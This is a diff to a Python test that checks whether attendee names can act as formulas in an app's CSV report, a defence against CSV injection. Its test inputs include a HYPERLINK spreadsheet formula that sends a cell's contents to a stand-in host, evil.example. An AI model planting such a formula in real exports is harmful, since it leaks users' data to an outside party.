@@ -94,7 +94,8 @@ def test_csv_report_has_the_same_totals(host: AppHost, event: EventSetup, storag
 def test_attendee_names_cannot_act_as_formulas_in_the_csv(
     host: AppHost, event: EventSetup, storage: Storage
 ) -> None:
-    names = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@sum(1+1)", "+1-2", "-3"]
+    # (No ':' in a name: those are kept for signed-in attendees.)
+    names = ['=HYPERLINK("evil.example/?d="&A1,"open")', "@sum(1+1)", "+1-2", "-3"]
     for name in names:
         key = event.add_attendee(name)["api_key"]
         body = {"messages": [{"role": "user", "content": "hi"}], "max_tokens": 4}
